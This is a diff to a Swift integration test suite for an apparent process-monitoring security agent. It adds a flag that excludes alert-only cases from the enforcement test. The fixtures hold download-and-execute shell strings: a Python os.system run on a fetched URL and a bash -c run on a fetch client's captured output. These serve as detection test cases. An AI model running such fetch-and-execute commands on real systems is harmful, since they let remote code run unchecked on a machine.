@@ -16,6 +16,8 @@ struct OriginIntegrationTests {
         let rules: Set<String>
         /// Words the alert's evidence must contain: the origin chain.
         let evidence: String
+        /// Enforce mode kills it (inline code from a tainted process is alerted, not killed).
+        var stopped = true
         var testDescription: String { name }
     }
 
@@ -40,7 +42,7 @@ struct OriginIntegrationTests {
         // Tainted data becoming inline code, no file at all.
         Shape(name: "a small python fetcher runs what it gets with os.system",
               script: "printf 'import urllib.request,os\\nos.system(urllib.request.urlopen(\"URL\").read().decode())\\n' > f.py; python3 f.py",
-              rules: ["tainted-process-runs-inline-code"], evidence: ""),
+              rules: ["tainted-process-runs-inline-code"], evidence: "", stopped: false),
         Shape(name: "the renamed client's output captured by $() and run with bash -c",
               script: "c=$(./FETCH -s URL); bash -c \"$c\"",
               rules: ["downloaded-code-run-inline"], evidence: "fetched from the network"),
@@ -103,7 +105,7 @@ struct OriginIntegrationTests {
         }
     }
 
-    @Test("enforce: the payload never acts, the agent survives", arguments: shapes)
+    @Test("enforce: the payload never acts, the agent survives", arguments: shapes.filter(\.stopped))
     func enforce(_ shape: Shape) throws {
         let h = try WardenHarness()
         let (server, marker) = try prepare(h)
